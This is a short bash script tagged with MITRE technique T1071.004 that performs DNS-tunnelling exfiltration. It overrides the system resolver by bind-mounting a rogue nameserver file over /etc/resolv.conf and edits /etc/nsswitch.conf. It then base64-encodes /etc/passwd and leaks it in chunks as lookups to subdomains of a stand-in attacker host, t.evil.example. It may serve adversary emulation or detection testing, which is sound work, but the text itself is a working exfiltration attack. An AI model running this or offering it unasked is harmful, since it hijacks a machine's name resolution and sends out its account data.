#!/bin/bash
# T1071.004: The system's resolver carries a file in names.
printf 'nameserver 44.128.66.66\noptions timeout:1 attempts:1\n' >/tmp/r; mount --bind /tmp/r /etc/resolv.conf; sed -i 's/^hosts:.*/hosts: files dns/' /etc/nsswitch.conf
base64 -w 48 /etc/passwd | tr -d '=+/' | head -14 | while read l; do timeout 1 getent hosts "$l.t.evil.example"; done
